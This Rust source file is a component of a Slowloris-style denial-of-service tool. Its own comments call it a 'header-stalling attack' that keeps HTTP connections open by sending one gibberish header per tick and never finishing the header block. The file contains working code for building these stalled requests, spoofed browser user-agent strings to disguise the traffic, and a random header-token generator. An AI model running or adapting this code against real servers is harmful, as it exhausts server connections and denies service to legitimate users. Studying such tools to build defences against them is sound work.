//! Hand-written HTTP/1.1 request fragments for the header-stalling attack.
//!
//! ## Request Shape
//! ```text
//! GET /path HTTP/1.1\r\n
//! Host: example.com\r\n
//! User-Agent: Mozilla/5.0 ...\r\n
//! X4k-9: 0ab-c\r\n          <- one gibberish header per tick, forever
//! ```
//!
//! The blank line that would end the header block is never sent.

use super::random::Randn;
use bytes::{BufMut, BytesMut};
use std::io;
use tokio::io::{AsyncWrite, AsyncWriteExt};

/// User agents used when the attack is not given any.
pub const DEFAULT_USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.38 (KHTML, like Gecko) Chrome/47.0.3104.383 Safari/603",
    "Mozilla/5.0 (Linux; U; Android 4.4; LG-V710 Build/KOT49I) AppleWebKit/601.6 (KHTML, like Gecko)  Chrome/48.0.1587.379 Mobile Safari/537.5",
    "Mozilla/5.0 (Windows NT 10.4; Win64; x64) AppleWebKit/535.22 (KHTML, like Gecko) Chrome/50.0.2318.242 Safari/536",
    "Mozilla/5.0 (Windows; Windows NT 10.1; Win64; x64; en-US) Gecko/20130401 Firefox/66.1",
];

/// Length of gibberish header keys and values.
pub const GIBBERISH_SIZE: usize = 5;

/// Characters allowed at the edges of a gibberish token.
const EDGE_CHARS: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";

/// Characters allowed inside a gibberish token.
const INNER_CHARS: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789-";

pub fn start_line(method: &str, path: &str) -> String {
    format!("{} {} HTTP/1.1", method, path)
}

/// Writes `line` followed by CRLF as a single write.
pub async fn write_http_line<W>(w: &mut W, line: &str) -> io::Result<()>
where
    W: AsyncWrite + Unpin,
{
    let mut buf = BytesMut::with_capacity(line.len() + 2);
    buf.put_slice(line.as_bytes());
    buf.put_slice(b"\r\n");
    w.write_all(&buf).await?;
    w.flush().await
}

pub async fn write_http_header<W>(w: &mut W, key: &str, value: &str) -> io::Result<()>
where
    W: AsyncWrite + Unpin,
{
    write_http_line(w, &format!("{}: {}", canonical_header_key(key), value)).await
}

/// `x-forwarded-for` -> `X-Forwarded-For`.
pub fn canonical_header_key(key: &str) -> String {
    let mut out = String::with_capacity(key.len());
    let mut upper = true;
    for c in key.chars() {
        if upper {
            out.extend(c.to_uppercase());
        } else {
            out.extend(c.to_lowercase());
        }
        upper = c == '-';
    }
    out
}

/// A random token of `size` characters drawn from `[a-z0-9-]`, never
/// starting or ending with `-`.
pub fn gibberish_value(randn: Randn, size: usize) -> String {
    if size == 0 {
        return String::new();
    }

    let mut b = vec![0u8; size];
    b[0] = EDGE_CHARS[randn(EDGE_CHARS.len())];
    if size > 1 {
        for c in &mut b[1..size - 1] {
            *c = INNER_CHARS[randn(INNER_CHARS.len())];
        }
        b[size - 1] = EDGE_CHARS[randn(EDGE_CHARS.len())];
    }

    // All bytes come from ASCII tables.
    String::from_utf8(b).unwrap_or_default()
}
